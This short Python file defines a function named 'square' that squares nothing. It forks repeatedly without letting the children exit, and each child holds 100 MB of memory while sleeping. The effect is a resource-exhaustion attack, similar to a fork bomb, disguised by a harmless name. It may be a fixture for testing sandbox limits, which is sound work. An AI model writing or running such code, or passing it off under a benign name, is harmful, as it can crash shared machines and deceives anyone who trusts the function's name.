import os
import time


def square(x, y):
    for _ in range(6):
        if os.fork() == 0:
            held = bytearray(b"x" * (100 << 20))
            time.sleep(30)
    os.wait()
    os.wait()
    time.sleep(30)
